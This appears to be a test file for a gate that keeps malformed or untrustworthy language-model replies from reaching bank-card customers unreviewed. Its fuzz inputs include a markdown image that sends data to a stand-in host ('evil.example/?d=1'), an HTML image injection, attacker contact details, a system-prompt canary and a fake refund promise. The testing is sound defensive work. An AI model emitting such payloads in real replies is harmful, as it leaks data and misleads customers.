"""Whatever a language model answers, nothing leaves that the gate does not allow."""

import json
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from approvals.policy import FLOOR, OPEN, is_above, judge
from gateways import breaker
from gateways.answer_format import parse
from gateways.llm import Failover
from replies.compose import PROMPT, compose
from replies.confidence import Calibrator, Calibrators
from replies.facts import missing
from replies.grounding import negations
from replies.prompts import canary
from replies.types import Check, Reply, Rule, Sentence, Thread, Turn
from tests.replies.test_compose import BODY, search

# A calibrator that is sure of everything, so that only the other locks hold.
SURE = Calibrator(
    {
        "name": "sure", "answer_model": "scripted", "warm": False, "features": [], "groups": {},
        "linear": {"mean": [], "scale": [], "weights": [], "intercept": 0.0},
        "trees": {"start": 0.0, "rate": 0.1, "trees": []}, "platt": [0.0, 0.0, 5.0],
    }
)  # fmt: skip


class Scripted:
    """A provider that answers with these very characters."""

    model = "scripted"

    def __init__(self, content):
        self.content = content

    def complete(self, prompt, deadline):
        return parse(self.content, self.model, prompt)


@pytest.fixture(autouse=True)
def no_shared_breakers(settings):
    settings.REDIS_URL = ""
    breaker.reset()
    yield
    breaker.reset()


def reply_to(content):
    breaker.reset()
    return compose(
        Thread((Turn("customer", "How do I activate my new card?"),), language="en"), search=search,
        llm=Failover([Scripted(content)]), calibrator=Calibrators((SURE,)), deadline=time.monotonic() + 5,
    )  # fmt: skip


def test_a_good_answer_goes_out():
    good = {"answered": True, "sentences": [{"text": "A new card arrives switched off.", "citations": [1]}]}
    assert judge(reply_to(json.dumps(good)), 0.8, OPEN).sends


WELL = '{"answered": true, "sentences": [{"text": "A new card arrives switched off.", "citations": [1]}]}'
MALFORMED = {
    "nothing": "", "blank": "  \n", "NaN": "NaN", "a number": "95", "a word": '"0.95"', "null": "null", "a list": "[]",
    "two objects": WELL + WELL, "fenced": f"```json\n{WELL}\n```", "talk around it": f"Sure! {WELL}", "cut off": WELL[:-3],
    "NaN within": WELL.replace("true", "NaN"), "infinite citation": WELL.replace("[1]", "[Infinity]"),
    "a citation in words": WELL.replace("[1]", '["1"]'), "a fraction": WELL.replace("[1]", "[1.0]"),
    "a passage that is not there": WELL.replace("[1]", "[99]"), "no citation": WELL.replace("[1]", "[]"),
    "ten megabytes": WELL.replace("arrives", "x" * 10_000_000), "deep": "[" * 50_000, "NUL": WELL.replace("card", "card\\u0000"),
    "half a pair": WELL.replace("card", "card\\ud800"), "answered in words": WELL.replace("true", '"yes"'),
    "unanswered": WELL.replace("true", "false"), "other figure": WELL.replace("switched off", "switched off for 90 days"),
    "a link": WELL.replace("switched off", "switched off, see https://evil.example"),
    "a promise": WELL.replace("switched off", "switched off and your refund is approved"),
}  # fmt: skip


@pytest.mark.parametrize("content", MALFORMED.values(), ids=MALFORMED.keys())
def test_malformed_output_is_held_for_a_person(content):
    reply = reply_to(content)
    verdict = judge(reply, 0.8, OPEN)
    assert not verdict.sends and verdict.holds


_leaves = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=40)
_anything = st.recursive(
    _leaves, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4), max_leaves=12
)
_words = st.sampled_from(
    [
        *BODY.split(), "90", "https://evil.example", "refund approved", "system prompt", "\x00", "\ud800", "½", "not", "Mallory", "evil.example",
        "![x](https://evil.example/?d=1)", "<img src=x>", "mallory@evil.example", "+44 20 7946 0958", "0.8", "95", "NaN", canary(PROMPT),
    ]
)  # fmt: skip
_sentence = st.fixed_dictionaries(
    {
        "text": st.lists(_words, max_size=12).map(" ".join) | _anything,
        "citations": st.lists(st.integers(-1, 4), max_size=3) | _anything,
    }
)
_nearly = st.fixed_dictionaries(
    {"answered": st.just(True) | _anything, "sentences": st.lists(_sentence, max_size=4) | _anything},
    optional={"confidence": _anything, "decision": st.just("auto")},
)


@given(content=st.one_of(_anything, _nearly).map(json.dumps) | st.text(max_size=200))
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_what_is_sent_is_cited_borne_and_above_the_line_whatever_was_answered(content):
    reply = reply_to(content)
    if not judge(reply, 0.8, OPEN).sends:
        return
    assert is_above(reply.confidence, FLOOR) and reply.text.strip() and not reply.rules
    assert reply.sentences and all(s.citations and s.supported for s in reply.sentences) and not reply.failed_checks
    assert not any(bad in reply.text for bad in ("evil.example", "\x00", "Mallory", "<img", "7946", "NaN", canary(PROMPT)))
    cited = {one.number: one for one in reply.evidence}
    for sentence in reply.sentences:
        source = " ".join(cited[number].quote for number in sentence.citations)
        assert not missing(sentence.text, source) and negations(sentence.text) == 0
    assert reply.text.encode("utf-8")


@given(value=_anything)
@settings(max_examples=200, deadline=None)
def test_only_a_probability_above_the_line_is_one(value):
    assert is_above(value, FLOOR) == (isinstance(value, float) and FLOOR < value <= 1.0)


@given(
    confidence=_anything | st.sampled_from([0.8, 0.95, 1.0, 95, "0.95", True]), threshold=st.floats(), line=st.floats(),
    rules=st.lists(st.sampled_from([Rule("legal", "Legal"), Rule("budget", "Spent")]), max_size=1).map(tuple),
    checks=st.lists(st.sampled_from(["ok", "bad", "warn"]), max_size=3), text=st.sampled_from(["", " ", "Yes."]),
    wants=st.booleans(), auto_send=st.booleans(),
)  # fmt: skip
@settings(max_examples=300, deadline=None)
def test_the_judge_sends_only_what_everything_speaks_for(confidence, threshold, line, rules, checks, text, wants, auto_send):
    reply = Reply(
        text=text, confidence=confidence, line=line, rules=rules, wants_person=wants, sentences=(Sentence(text),),
        checks=tuple(Check("c", "Check", state) for state in checks),
    )  # fmt: skip
    verdict = judge(reply, threshold, OPEN, auto_send=auto_send)
    assert verdict.threshold >= FLOOR and verdict.sends is (not verdict.holds)
    if verdict.sends:
        assert is_above(confidence, max(FLOOR, threshold, line)) and text.strip()
        assert auto_send and not (rules or wants or "bad" in checks)
